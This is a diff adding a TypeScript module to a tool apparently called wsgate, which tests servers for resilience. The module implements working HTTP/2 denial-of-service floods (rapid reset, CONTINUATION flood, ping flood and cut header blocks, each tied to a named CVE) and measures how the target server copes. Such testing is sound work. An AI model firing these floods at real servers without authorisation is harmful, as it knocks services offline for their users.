@@ -1,0 +1,363 @@
+/**
+ * An HTTP/2 flood on one connection (17.5), in wsgate's own frames: the preface and an empty
+ * SETTINGS, the server's SETTINGS acknowledged (and SETTINGS_ENABLE_CONNECT_PROTOCOL checked), then
+ * the flood a batch per write, each write once the socket took the one before, until the server
+ * sends GOAWAY or ends TCP, or the flood is all written. Loopback's buffers take megabytes before
+ * the server reads a byte, so "written" says little: what the server's process read is wsgate's
+ * flushed bytes less the kernel's queues at both ends (util/kernel-queues.ts), sampled after every
+ * write and when the server ends the connection.
+ */
+import type net from 'node:net';
+import type { H2Flood, H2FloodAttack, H2FloodFacts } from '../../cases/attack-types.js';
+import { encodeH2Frame, H2_PREFACE, H2Flag, H2Frame, H2FrameReader, h2ErrorName, hpackBlock, hpackLiteral, parseSettings } from '../../protocol/h2-frames.js';
+import { connectionQueues } from '../../util/kernel-queues.js';
+import { probeFields } from '../h2-probe.js';
+import { connectTo, targetHostPort } from '../play-case.js';
+import type { ServerTarget } from '../play-types.js';
+
+/** How long the server has to send its SETTINGS. */
+const SETTINGS_WAIT_MS = 5000;
+/** How long wsgate waits, after the last unit, for a server that has not read them all yet. */
+const UNREAD_WAIT_MS = 10_000;
+/** How often the kernel's queues are looked at while wsgate waits. */
+const LOOK_EVERY_MS = 50;
+/** SETTINGS_ENABLE_CONNECT_PROTOCOL (RFC 8441 §3). */
+const ENABLE_CONNECT_PROTOCOL = 0x8;
+/** RST_STREAM's CANCEL (RFC 9113 §7). */
+const CANCEL = Buffer.from([0, 0, 0, 8]);
+
+/** The flood's frames: what goes ahead of the units, and unit i. */
+interface FloodFrames {
+  head: Buffer;
+  unit: (i: number) => Buffer;
+  /** The last stream id unit i opened (0: the flood opens none of its own). */
+  streamOf: (i: number) => number;
+}
+
+/** The frames of each flood; `fields` are an extended CONNECT's (RFC 8441 §4). */
+function floodFrames(flood: H2Flood, fields: Buffer): FloodFrames {
+  if (flood === 'rapid-reset') {
+    // CVE-2023-44487: a stream opened (HEADERS, END_HEADERS) and cancelled at once, on odd ids 1, 3, 5, …
+    const streamOf = (i: number): number => 2 * i + 1;
+    return {
+      head: Buffer.alloc(0),
+      unit: (i) =>
+        Buffer.concat([encodeH2Frame(H2Frame.Headers, H2Flag.EndHeaders, streamOf(i), fields), encodeH2Frame(H2Frame.RstStream, 0, streamOf(i), CANCEL)]),
+      streamOf,
+    };
+  }
+  if (flood === 'continuation') {
+    // CVE-2024-27316 and kin: a header block that never ends, each CONTINUATION a new field (same size each).
+    return {
+      head: encodeH2Frame(H2Frame.Headers, 0, 1, fields),
+      unit: (i) => encodeH2Frame(H2Frame.Continuation, 0, 1, hpackLiteral(`x-flood-${String(i).padStart(7, '0')}`, 'a')),
+      streamOf: () => 1,
+    };
+  }
+  const ping = Buffer.alloc(8);
+  return {
+    head: Buffer.alloc(0),
+    unit: (i) => {
+      ping.writeUInt32BE(i >>> 0, 4);
+      return encodeH2Frame(H2Frame.Ping, 0, 0, ping);
+    },
+    streamOf: () => 0,
+  };
+}
+
+/** The flood played against the server; never rejects. */
+export function runH2Flood(target: ServerTarget, attack: H2FloodAttack, graceMs: number, signal: AbortSignal | undefined): Promise<H2FloodFacts> {
+  const fields = hpackBlock(probeFields(target.tls ? 'https' : 'http', targetHostPort(target), target.resource));
+  const frames = floodFrames(attack.flood, fields);
+  return new Promise((resolve) => {
+    let flood: Flood | null = null;
+    const refused = (why: string): void =>
+      resolve({
+        flood: attack.flood,
+        units: attack.units,
+        refused: why,
+        unitsWritten: 0,
+        headBytes: 0,
+        unitBytes: frames.unit(0).length,
+        unitsRead: null,
+        end: null,
+        lastStreamId: 0,
+        resetsIn: 0,
+        responsesIn: 0,
+        ending: 'open',
+        writingMs: 0,
+      });
+    const socket = connectTo(
+      target,
+      (s) => {
+        flood = new Flood(s, attack, frames, graceMs, resolve);
+        flood.start(refused);
+      },
+      refused,
+    );
+    signal?.addEventListener('abort', () => (flood === null ? socket.destroy() : flood.stop()), { once: true });
+  });
+}
+
+/** One flood on a connected socket. */
+class Flood {
+  private readonly reader = new H2FrameReader();
+  /** Octets wsgate wrote besides the flood's own (the preface, SETTINGS, acknowledgements). */
+  private overhead = 0;
+  private written = 0;
+  private startedAt: number | null = null;
+  private lastAt: number | null = null;
+  private read: number | null = null;
+  private end: H2FloodFacts['end'] = null;
+  private ending: H2FloodFacts['ending'] = 'open';
+  private resetsIn = 0;
+  private responsesIn = 0;
+  private timer: NodeJS.Timeout | undefined;
+  private done = false;
+  private readonly unitBytes: number;
+
+  constructor(
+    private readonly socket: net.Socket,
+    private readonly attack: H2FloodAttack,
+    private readonly frames: FloodFrames,
+    private readonly graceMs: number,
+    private readonly resolve: (facts: H2FloodFacts) => void,
+  ) {
+    this.unitBytes = frames.unit(0).length;
+  }
+
+  /** The preface; the flood once the server's SETTINGS allow it, or `refused` with the reason. */
+  start(refused: (why: string) => void): void {
+    const s = this.socket;
+    let begun = false;
+    const notBegun = (why: string): void => {
+      if (begun) return;
+      begun = true;
+      this.done = true;
+      clearTimeout(this.timer);
+      s.destroy();
+      refused(why);
+    };
+    this.timer = setTimeout(() => notBegun(`the server sent no HTTP/2 SETTINGS within ${SETTINGS_WAIT_MS / 1000} s`), SETTINGS_WAIT_MS);
+    s.on('error', () => undefined);
+    s.on('close', (hadError) => (begun ? this.ended(hadError ? 'reset' : 'closed') : notBegun('the server closed the connection before its HTTP/2 SETTINGS')));
+    s.on('data', (chunk: Buffer) => {
+      for (const f of this.reader.push(chunk)) {
+        if (f.type === H2Frame.Settings && (f.flags & H2Flag.Ack) === 0) {
+          this.put(encodeH2Frame(H2Frame.Settings, H2Flag.Ack, 0));
+          if (begun) continue;
+          if (parseSettings(f.payload).get(ENABLE_CONNECT_PROTOCOL) !== 1) {
+            notBegun('the server did not advertise SETTINGS_ENABLE_CONNECT_PROTOCOL: it takes no WebSockets over HTTP/2 (RFC 8441 §3)');
+            return;
+          }
+          begun = true;
+          clearTimeout(this.timer);
+          // The ping flood: wsgate reads nothing more, so the acknowledgements wait at the server.
+          if (this.attack.flood === 'ping') s.pause();
+          this.startedAt = performance.now();
+          this.next();
+        } else if (f.type === H2Frame.Ping && (f.flags & H2Flag.Ack) === 0 && this.attack.flood !== 'ping') {
+          this.put(encodeH2Frame(H2Frame.Ping, H2Flag.Ack, 0, f.payload));
+        } else if (f.type === H2Frame.RstStream) this.resetsIn++;
+        else if (f.type === H2Frame.Headers) this.responsesIn++;
+        else if (f.type === H2Frame.GoAway && begun) {
+          const code = f.payload.length >= 8 ? f.payload.readUInt32BE(4) : 0;
+          this.ended('goaway', { code, lastStreamId: f.payload.length >= 4 ? f.payload.readUInt32BE(0) & 0x7fffffff : 0 });
+        }
+      }
+    });
+    this.put(Buffer.concat([H2_PREFACE, encodeH2Frame(H2Frame.Settings, 0, 0)]));
+  }
+
+  /** Bytes that are not the flood's. */
+  private put(bytes: Buffer): void {
+    if (this.socket.destroyed) return;
+    this.overhead += bytes.length;
+    this.socket.write(bytes);
+  }
+
+  /** The next batch, once the socket took the previous one; then the wait for the server to read it all. */
+  private next(): void {
+    if (this.done) return;
+    if (this.written === 0) this.overhead += this.frames.head.length;
+    const from = this.written;
+    const to = Math.min(this.attack.units, from + this.attack.batch);
+    if (from >= to) return this.waitForEnd();
+    const pieces = from === 0 ? [this.frames.head] : [];
+    for (let i = from; i < to; i++) pieces.push(this.frames.unit(i));
+    this.written = to;
+    this.lastAt = performance.now();
+    this.socket.write(Buffer.concat(pieces), (err) => {
+      if (err != null || this.done) return;
+      this.look();
+      this.next();
+    });
+  }
+
+  /** The units the server's process has read now (wsgate's flushed bytes less the kernel's queues), or null when its socket is not in the table. */
+  private sample(): number | null {
+    const queues = connectionQueues(this.socket);
+    if (queues === null) return null;
+    const flushed = this.socket.bytesWritten - this.socket.writableLength;
+    const units = Math.floor((flushed - queues.ourUnacked - queues.peerUnread - this.overhead) / this.unitBytes);
+    return Math.min(this.written, Math.max(0, units));
+  }
+
+  /**
+   * The most units the server's process has read so far, kept. The server's socket gone from the
+   * table once seen is its end of TCP (noticed here when wsgate is not reading: the ping flood).
+   */
+  private look(): void {
+    const now = this.sample();
+    if (now !== null) this.read = Math.max(this.read ?? 0, now);
+    else if (this.read !== null) this.ended('closed');
+  }
+
+  /** All written: wait for the server to read it all (or UNREAD_WAIT_MS), then `graceMs` for its end. */
+  private waitForEnd(): void {
+    const lastAt = performance.now();
+    let allReadAt: number | null = null;
+    const tick = (): void => {
+      if (this.done) return;
+      this.look();
+      const now = performance.now();
+      const allRead = this.read === null || this.read >= this.written;
+      if (allRead) allReadAt ??= now;
+      if ((allReadAt !== null && now - allReadAt >= this.graceMs) || now - lastAt >= UNREAD_WAIT_MS + this.graceMs) return this.stop();
+      this.timer = setTimeout(tick, LOOK_EVERY_MS);
+    };
+    tick();
+  }
+
+  /** The server ended the connection (GOAWAY, or TCP): the figures at that moment, and the end of the flood. */
+  private ended(how: 'goaway' | 'closed' | 'reset', goaway?: { code: number; lastStreamId: number }): void {
+    if (this.done || this.startedAt === null) return;
+    if (how !== 'goaway') this.ending = how;
+    if (this.end === null) {
+      // What the server had read at its end, when its socket is still there to say (gone: null, and the verdict takes what was written).
+      const now = this.sample();
+      if (now !== null) this.read = Math.max(this.read ?? 0, now);
+      this.end = { ms: performance.now() - this.startedAt, unitsWritten: this.written, unitsRead: now === null ? null : this.read, goaway: goaway ?? null };
+    }
+    this.stop();
+  }
+
+  /** The flood is over: the facts, and the connection closed. */
+  stop(): void {
+    if (this.done) return;
+    this.done = true;
+    clearTimeout(this.timer);
+    this.socket.destroy();
+    const lastStreamId = this.written === 0 ? 0 : this.frames.streamOf(this.written - 1);
+    this.resolve({
+      flood: this.attack.flood,
+      units: this.attack.units,
+      refused: null,
+      unitsWritten: this.written,
+      headBytes: this.frames.head.length,
+      unitBytes: this.unitBytes,
+      unitsRead: this.read,
+      end: this.end,
+      lastStreamId,
+      resetsIn: this.resetsIn,
+      responsesIn: this.responsesIn,
+      ending: this.ending,
+      writingMs: this.startedAt === null || this.lastAt === null ? 0 : this.lastAt - this.startedAt,
+    });
+  }
+}
+
+/** What each flood's unit is, for the report. */
+const UNIT_WORDS: Readonly<Record<H2Flood, string>> = {
+  'rapid-reset': 'streams opened (HEADERS, an extended CONNECT) and reset (RST_STREAM CANCEL)',
+  continuation: 'CONTINUATION frames of one header block (HEADERS without END_HEADERS on stream 1)',
+  ping: 'PING frames',
+  'cut-blocks': 'connections, each an unfinished header block (HEADERS without END_HEADERS, 20 CONTINUATION frames) cut by a TCP reset',
+};
+
+/** The report's request and response lines of a flood: what wsgate wrote, what the server sent and did. */
+export function floodLines(f: H2FloodFacts): { request: string; response: string } {
+  const n = (v: number): string => v.toLocaleString('en-US');
+  if (f.refused !== null) return { request: 'HTTP/2 preface and SETTINGS', response: f.refused };
+  const request = `HTTP/2 preface and SETTINGS; ${n(f.unitsWritten)} of ${n(f.units)} ${UNIT_WORDS[f.flood]} (${n(f.unitBytes)} bytes each) in ${n(Math.round(f.writingMs))} ms`;
+  const end = f.end;
+  if (f.flood === 'cut-blocks') {
+    const response =
+      end === null
+        ? `every connection accepted (${n(f.unitsWritten)})`
+        : `connection ${n(end.unitsWritten + 1)} failed ${n(Math.round(end.ms))} ms in: the server was gone`;
+    return { request, response };
+  }
+  const goaway = end?.goaway;
+  const ended =
+    end === null
+      ? 'the connection still open when wsgate stopped'
+      : `${goaway ? `GOAWAY ${h2ErrorName(goaway.code)}, last stream ${n(goaway.lastStreamId)}` : `TCP ${f.ending === 'reset' ? 'reset' : 'closed'}`} ${n(Math.round(end.ms))} ms into the flood, ${n(end.unitsWritten)} written${end.unitsRead === null ? '' : `, ${n(end.unitsRead)} read by the server`}`;
+  const read =
+    f.unitsRead === null ? 'what the server read not measurable (its socket is not on this machine)' : `${n(f.unitsRead)} units read by the server at most`;
+  return { request, response: `${ended}; ${read}; ${n(f.resetsIn)} RST_STREAM and ${n(f.responsesIn)} HEADERS from the server` };
+}
+
+/** How many CONTINUATION frames (of a 100-byte field each) a cut header block carries. */
+const CUT_BLOCK_FRAMES = 20;
+
+/**
+ * `cut-blocks`: up to `units` connections one after another, each the preface, SETTINGS, HEADERS
+ * without END_HEADERS and CONTINUATION frames in one write, then a TCP reset at once, while the
+ * server may still be decoding the block (CVE-2024-27983). The flood ends early when a connection is
+ * refused: the server is gone.
+ */
+export async function runCutBlocks(target: ServerTarget, attack: H2FloodAttack, signal: AbortSignal | undefined): Promise<H2FloodFacts> {
+  const fields = hpackBlock(probeFields(target.tls ? 'https' : 'http', targetHostPort(target), target.resource));
+  const block = Buffer.concat([
+    H2_PREFACE,
+    encodeH2Frame(H2Frame.Settings, 0, 0),
+    encodeH2Frame(H2Frame.Headers, 0, 1, fields),
+    ...Array.from({ length: CUT_BLOCK_FRAMES }, (_, k) => encodeH2Frame(H2Frame.Continuation, 0, 1, hpackLiteral(`x-cut-${k}`, 'a'.repeat(100)))),
+  ]);
+  const started = performance.now();
+  let written = 0;
+  let end: H2FloodFacts['end'] = null;
+  while (written < attack.units && signal?.aborted !== true) {
+    const why = await cutOne(target, block);
+    if (why !== null) {
+      end = { ms: performance.now() - started, unitsWritten: written, unitsRead: null, goaway: null };
+      break;
+    }
+    written++;
+  }
+  return {
+    flood: attack.flood,
+    units: attack.units,
+    refused: written === 0 && end !== null ? 'the first connection was refused' : null,
+    unitsWritten: written,
+    headBytes: 0,
+    unitBytes: block.length,
+    unitsRead: null,
+    end,
+    lastStreamId: 0,
+    resetsIn: 0,
+    responsesIn: 0,
+    ending: end === null ? 'open' : 'reset',
+    writingMs: performance.now() - started,
+  };
+}
+
+/** One connection: the block written, then reset on the next turn of the event loop; null, or why it failed. */
+function cutOne(target: ServerTarget, block: Buffer): Promise<string | null> {
+  return new Promise((resolve) => {
+    const socket = connectTo(
+      target,
+      (s) => {
+        s.on('error', () => undefined);
+        s.write(block);
+        setImmediate(() => {
+          s.resetAndDestroy();
+          resolve(null);
+        });
+      },
+      (why) => resolve(why),
+    );
+    socket.on('error', () => undefined);
+  });
+}
